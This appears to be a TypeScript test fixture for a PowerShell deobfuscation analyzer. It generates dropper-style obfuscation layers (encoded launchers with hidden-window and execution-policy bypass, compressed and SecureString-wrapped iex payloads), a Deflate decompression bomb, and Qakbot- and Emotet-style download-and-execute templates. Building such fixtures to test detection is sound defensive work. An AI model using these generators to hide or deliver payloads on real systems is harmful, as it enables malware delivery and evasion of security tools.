// Builds obfuscated PowerShell the way droppers write it, from a plain script: each function applies one
// trick (format operator, concatenation, backticks, char codes, reversal, base64+Deflate/GZip, SecureString,
// nested -EncodedCommand), so a test knows exactly what the decoder must undo. Also a Deflate bomb.

import { constants, deflateRawSync, gzipSync } from 'node:zlib';
import { encryptSecureString } from '../../src/analyzers/powershell/securestring.ts';

/** What powershell.exe -EncodedCommand takes: base64 of UTF-16LE. */
export function encodeCommand(script: string): string {
  return Buffer.from(script, 'utf16le').toString('base64');
}

/** A typical dropper launcher line. */
export function encodedLauncher(script: string, switches = '-nop -w hidden -ep bypass', flag = '-enc'): string {
  return `powershell.exe ${switches} ${flag} ${encodeCommand(script)}`;
}

/** The same script wrapped in `depth` nested `powershell -enc` layers. */
export function nestedEncoded(script: string, depth: number): string {
  let text = script;
  for (let i = 0; i < depth; i++) text = encodedLauncher(text, '-nop');
  return text;
}

/** A string literal rebuilt with the format operator from shuffled pieces: ("{2}{0}{1}" -f 'b','c','a'). */
export function formatOperator(value: string, pieces = 4): string {
  const size = Math.max(1, Math.ceil(value.length / pieces));
  const parts: string[] = [];
  for (let i = 0; i < value.length; i += size) parts.push(value.slice(i, i + size));
  // A fixed shuffle (reverse order of appearance) so the test is deterministic.
  const order = parts.map((_, i) => parts.length - 1 - i);
  const format = parts.map((_, i) => `{${order.indexOf(i)}}`).join('');
  const args = order.map((i) => quote(parts[i]!)).join(',');
  return `("${format}" -f ${args})`;
}

/** A string literal as concatenated pieces: ('htt'+'p://'+…). */
export function concatenation(value: string, size = 3): string {
  const parts: string[] = [];
  for (let i = 0; i < value.length; i += size) parts.push(quote(value.slice(i, i + size)));
  return `(${parts.join('+')})`;
}

/** Backticks inserted into a name: New-Object → N`e`w-O`bj`ect (only before letters PowerShell ignores them on). */
export function backticks(name: string): string {
  return Array.from(name, (c, i) => (i > 0 && /[a-z]/i.test(c) && !/[abefnrtv0]/i.test(c) && i % 2 === 1 ? `\`${c}` : c)).join('');
}

/** A string as char codes: ([char[]](104,116,…) -join ''). */
export function charArray(value: string): string {
  return `([char[]](${Array.from(value, (c) => c.charCodeAt(0)).join(',')}) -join '')`;
}

/** A string as a sum of [char] casts: ([char]104+[char]116+…). */
export function charCasts(value: string): string {
  return `(${Array.from(value, (c) => `[char]${c.charCodeAt(0)}`).join('+')})`;
}

/** A string stored reversed and read backwards by index: (-join 'olleh'[-1..-5]). */
export function reversedIndex(value: string): string {
  const reversed = Array.from(value).reverse().join('');
  return `(-join ${quote(reversed)}[-1..-${value.length}])`;
}

/** A string reversed with [regex]::Matches(…, 'RightToLeft'). */
export function reversedRegex(value: string): string {
  const reversed = Array.from(value).reverse().join('');
  return `(-join [regex]::Matches(${quote(reversed)},'.','RightToLeft'))`;
}

/** A script run from base64 + raw Deflate, read back with a StreamReader. */
export function base64Deflate(script: string): string {
  const packed = deflateRawSync(Buffer.from(script, 'utf8')).toString('base64');
  return `iex(New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('${packed}'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()`;
}

/** A script run from base64 + GZip, the Powerfun/Cobalt Strike way (MemoryStream(,bytes) + CopyTo style reader). */
export function base64Gzip(script: string): string {
  const packed = gzipSync(Buffer.from(script, 'utf8')).toString('base64');
  return `$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String("${packed}"));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();`;
}

/** A script hidden in a SecureString encrypted with a key, run through Marshal. */
export function secureStringLayer(script: string): string {
  const key = Array.from({ length: 16 }, (_, i) => i + 1);
  const iv = Uint8Array.from({ length: 16 }, (_, i) => 0xa0 + i);
  const encrypted = encryptSecureString(script, Uint8Array.from(key), iv);
  return `$k=(${key.join(',')});$ss=ConvertTo-SecureString '${encrypted}' -Key $k;iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($ss)))`;
}

/**
 * A raw Deflate stream that inflates to `outputMiB` MiB of zeros from about 1 KiB per MiB: one flushed block
 * of 1 MiB of zeros repeated (byte-aligned by the sync flush), then a final empty block.
 */
export function deflateBomb(outputMiB: number): Buffer {
  const block = deflateRawSync(Buffer.alloc(1024 * 1024), { level: 9, finishFlush: constants.Z_SYNC_FLUSH });
  return Buffer.concat([...Array.from({ length: outputMiB }, () => block), Buffer.from([0x03, 0x00])]);
}

/** A script that inflates a bomb and runs the result. */
export function deflateBombScript(outputMiB: number): string {
  const packed = deflateBomb(outputMiB).toString('base64');
  return `$b=[Convert]::FromBase64String('${packed}');$m=New-Object IO.MemoryStream(,$b);$d=New-Object IO.Compression.DeflateStream($m,[IO.Compression.CompressionMode]::Decompress);iex (New-Object IO.StreamReader($d)).ReadToEnd()`;
}

/** A Qakbot-style stage: a URL list tried in turn, a DLL saved under ProgramData, rundll32 with an export. */
export function qakbotDownloader(urls: string[], path: string, exportName: string): string {
  return [
    `$urls = '${urls.join(',')}'.Split(',')`,
    `$out = '${path}'`,
    `foreach ($u in $urls) { try { (New-Object Net.WebClient).DownloadFile($u, $out); break } catch {} }`,
    `Start-Process rundll32.exe -ArgumentList "$out,${exportName}"`,
  ].join(';');
}

function quote(s: string): string {
  return `'${s.replace(/'/g, "''")}'`;
}

/**
 * An Emotet-style downloader (2019–2020 shape): junk assignments, a computed New-Object, a URL list split on
 * '@' through a backticked method name, DownloadFile in a try loop, a size check, [Diagnostics.Process]::Start.
 */
export function emotetStyle(urls: string[], fileName: string): string {
  return [
    "$Wzdk='Ldmplglhwrl'",
    `$Gxx = '${fileName}'`,
    "$Bpg=$env:userprofile+'\\'+$Gxx+'.exe'",
    "$Cwi=&('n'+'ew-ob'+'ject') nEt.WEBcLIeNt",
    `$Txk='${urls.join('@')}'."SPl\`it"('@')`,
    "foreach($Pdk in $Txk){try{$Cwi.\"dOw`N`lOAdfILE\"($Pdk, $Bpg);$Lvz='Smnnbokvp';If ((&('Ge'+'t-It'+'em') $Bpg).\"LeN`gTh\" -ge 35385) {[Diagnostics.Process]::\"s`TarT\"($Bpg);break}}catch{}}",
    "$Kay='Dsbxwdtqsafg'",
  ].join(';');
}
